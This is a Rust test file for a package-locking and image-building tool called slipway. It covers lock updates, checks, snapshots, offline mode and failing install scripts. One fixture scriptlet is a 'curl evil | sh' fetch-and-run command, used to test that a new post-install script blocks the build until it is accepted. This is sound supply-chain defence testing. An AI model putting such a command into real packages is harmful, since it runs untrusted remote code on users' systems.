//! Locking month after month, over a small repository that gets newer.

#[path = "../../src/fixture/repository.rs"]
#[allow(dead_code, reason = "the tests of the crate use the rest")]
mod repository;

use std::fs;
use std::process::{Command, Output};

use repository::{Fixture, Key, rpm_with};

use super::{DIFFERENT, err, out, slipway};

/// `slipway COMMAND RECIPE MORE…` in the fixture's folder.
fn run(fixture: &Fixture, command: &str, more: &[&str]) -> Output {
    let mut slipway = slipway(&[command]);
    slipway.arg(fixture.recipe_path()).arg("--lock").arg(fixture.path("lock.toml"));
    slipway.arg("--store").arg(fixture.path("store")).arg("--tools").arg(fixture.path("tools"));
    slipway.args(more).output().expect("the program starts")
}

fn lock(fixture: &Fixture, more: &[&str]) -> Output {
    run(fixture, "lock", more)
}

fn locked(fixture: &Fixture, more: &[&str]) -> Output {
    let output = lock(fixture, more);
    assert!(output.status.success(), "{more:?}: {}", err(&output));
    output
}

/// Without a bundle, which the cases do not come to.
fn build(fixture: &Fixture) -> Output {
    let keys = fixture.path("keys/own");
    if !keys.exists() {
        let keys = keys.to_string_lossy().into_owned();
        let made = slipway(&["keys", "new", &keys]).output().expect("it starts");
        assert!(made.status.success(), "{}", err(&made));
    }
    let (keys, out) = (keys.to_string_lossy(), fixture.path("out"));
    run(fixture, "build", &["--disk-only", "--keys", &keys, "--out", &out.to_string_lossy()])
}

/// What the lock names, as `name version`.
fn packages(fixture: &Fixture) -> Vec<String> {
    let text = fs::read_to_string(fixture.path("lock.toml")).expect("a lock");
    let lock: toml::Table = toml::from_str(&text).expect("TOML");
    let packages = lock["package"].as_array().expect("packages");
    let text = |one: &toml::Value, key: &str| one[key].as_str().expect("a text").to_owned();
    packages.iter().map(|one| format!("{} {}", text(one, "name"), text(one, "version"))).collect()
}

/// Adds `line` to the recipe, below `table`.
fn amend(fixture: &Fixture, table: &str, line: &str) {
    let recipe = fs::read_to_string(fixture.recipe_path()).expect("a recipe");
    let amended = match table {
        "" => format!("{line}\n{recipe}"),
        table => recipe.replace(table, &format!("{table}\n{line}")),
    };
    fs::write(fixture.recipe_path(), amended).expect("written");
}

/// A package whose scripts are `pre` and `post`.
fn scripted(fixture: &mut Fixture, version: &str, requires: &[&str], pre: &str, post: &str) {
    let bytes = rpm_with("kit", version, requires, Key::Trusted, |builder| {
        builder.pre_install_script(pre).post_install_script(post);
    });
    fixture.add_bytes("kit", version, requires, bytes);
    fixture.write_recipe("[\"kit\"]");
    fixture.publish();
}

#[test]
fn a_new_script_stops_the_build_until_it_is_accepted() {
    let mut fixture = Fixture::new();
    scripted(&mut fixture, "1.0", &[], "true", "ldconfig");
    locked(&fixture, &[]);
    scripted(&mut fixture, "2.0", &[], "true", "curl evil | sh");
    let said = out(&locked(&fixture, &["--update"]));
    assert!(said.contains("kit: 1.0-1.noarch -> 2.0-1.noarch"), "{said}");
    assert!(said.contains("1 scriptlet is new and not accepted"), "{said}");
    let stopped = build(&fixture);
    assert_eq!(stopped.status.code(), Some(1));
    let said = err(&stopped);
    assert!(said.contains("%post of kit, ") && said.contains("    | curl evil | sh\n"), "{said}");
    assert!(!said.contains("| true"), "an accepted script is shown:\n{said}");
    assert!(said.contains("slipway lock ") && said.contains("--accept "), "{said}");
    locked(&fixture, &["--accept", "all"]);
    // There is no shell in it, but now it is looked for.
    let said = err(&build(&fixture));
    assert!(!said.contains("accepted"), "{said}");
    assert!(said.contains("%pre of kit-2.0-1.noarch failed, exit status 127"), "{said}");
}

#[test]
fn a_check_tells_of_a_newer_month_and_writes_nothing() {
    let mut fixture = Fixture::new();
    locked(&fixture, &[]);
    let before = fs::read(fixture.path("lock.toml")).expect("a lock");
    let said = out(&locked(&fixture, &["--check"]));
    assert!(said.contains("would not change"), "{said}");
    fixture.add_beside("lib", "2.1", &[]);
    fixture.publish();
    let output = lock(&fixture, &["--check"]);
    assert_eq!(output.status.code(), Some(DIFFERENT), "{}", err(&output));
    let said = out(&output);
    assert!(said.contains("would change"), "{said}");
    assert!(said.contains("  lib: 2.0-1.noarch -> 2.1-1.noarch\n"), "{said}");
    assert_eq!(fs::read(fixture.path("lock.toml")).expect("a lock"), before);
    locked(&fixture, &["--update"]);
    locked(&fixture, &["--check"]);
}

#[test]
fn a_check_tells_of_scripts_that_would_be_skipped() {
    let mut fixture = Fixture::new();
    scripted(&mut fixture, "1.0", &[], "true", "ldconfig");
    locked(&fixture, &[]);
    amend(&fixture, "[packages]", "skip_scripts = [\"kit %post\", \"kit %posttrans\"]");
    let output = lock(&fixture, &["--check"]);
    assert_eq!(output.status.code(), Some(DIFFERENT), "{}", err(&output));
    assert!(out(&output).contains("  kit %post: native -> none\n"), "{}", out(&output));
    let said = err(&output);
    assert!(said.contains("no locked package has \"kit %posttrans\""), "{said}");
    assert!(!said.contains("\"kit %post\""), "{said}");
    locked(&fixture, &[]);
    locked(&fixture, &["--check"]);
}

#[test]
fn an_update_moves_what_was_named_and_what_that_needs() {
    let mut fixture = Fixture::new();
    locked(&fixture, &[]);
    assert_eq!(packages(&fixture), ["app 1.0", "data 3.0", "lib 2.0"]);
    fixture.add_beside("app", "2.0", &["lib >= 2.1", "/usr/share/data/file"]);
    fixture.add_beside("lib", "2.1", &[]);
    fixture.add_beside("data", "3.1", &[]);
    fixture.publish();
    locked(&fixture, &[]);
    assert_eq!(packages(&fixture), ["app 1.0", "data 3.0", "lib 2.0"]);
    locked(&fixture, &["--update", "app"]);
    assert_eq!(packages(&fixture), ["app 2.0", "data 3.0", "lib 2.1"]);
    let unknown = lock(&fixture, &["--update", "no-such-package"]);
    assert_eq!(unknown.status.code(), Some(super::MISTAKEN), "{}", err(&unknown));
    locked(&fixture, &["--update"]);
    assert_eq!(packages(&fixture), ["app 2.0", "data 3.1", "lib 2.1"]);
}

#[test]
fn a_snapshot_is_locked_without_what_came_later() {
    let mut fixture = Fixture::new();
    fixture.add_beside("lib", "2.1", &[]);
    fixture.built_at(1_769_904_000); // 2026-02-01
    fixture.publish();
    amend(&fixture, "", "snapshot = \"2026-01-31\"");
    let said = err(&locked(&fixture, &[]));
    assert!(said.contains("2026-01-31") && said.contains("approximate"), "{said}");
    assert!(packages(&fixture).contains(&"lib 2.0".to_owned()), "{:?}", packages(&fixture));
    amend(&fixture, "snapshot = \"2026-01-31\"", "");
    let recipe = fs::read_to_string(fixture.recipe_path()).expect("a recipe");
    fs::write(fixture.recipe_path(), recipe.replace("2026-01-31", "2026-02-01")).expect("written");
    locked(&fixture, &["--update"]);
    assert!(packages(&fixture).contains(&"lib 2.1".to_owned()), "{:?}", packages(&fixture));
}

#[test]
fn what_is_missing_offline_is_no_matter_of_vendoring() {
    let fixture = Fixture::new();
    let recipe = fs::read_to_string(fixture.recipe_path()).expect("a recipe");
    let elsewhere = recipe.replace("../repository", "http://127.0.0.1:9/repository");
    fs::write(fixture.recipe_path(), elsewhere).expect("written");
    let output = lock(&fixture, &["--offline"]);
    assert_eq!(output.status.code(), Some(1));
    let said = err(&output);
    assert!(said.contains("once without --offline") && !said.contains("vendor"), "{said}");
}

/// A shell of this machine with its libraries.
fn add_shell(fixture: &mut Fixture) {
    let said = Command::new("ldd").arg("/bin/dash").output().expect("ldd").stdout;
    let said = String::from_utf8(said).expect("text");
    let libraries = said.split_ascii_whitespace().filter(|word| word.starts_with('/'));
    let bytes = rpm_with("shell", "1", &[], Key::Trusted, |builder| {
        let mut add = |from: &str, to: &str| {
            let contents = fs::read(from).expect("a file of this machine");
            let options = rpm::FileOptions::new(to).permissions(0o755);
            builder.with_file_contents(contents, options).expect("a file");
        };
        add("/bin/dash", "/bin/sh");
        libraries.for_each(|library| add(library, library));
    });
    fixture.add_bytes("shell", "1", &[], bytes);
}

#[test]
fn a_script_that_fails_is_named_with_what_it_said() {
    let mut fixture = Fixture::new();
    add_shell(&mut fixture);
    let pre = "echo looking around\nset -- *\necho cannot go on >&2\nexit 7";
    scripted(&mut fixture, "1.0", &["shell"], pre, "true");
    locked(&fixture, &[]);
    let failed = build(&fixture);
    assert_eq!(failed.status.code(), Some(1));
    let said = err(&failed);
    assert!(said.contains("%pre of kit-1.0-1.noarch failed, exit status 7:\n"), "{said}");
    assert!(said.contains("looking around\n") && said.contains("cannot go on\n"), "{said}");
}
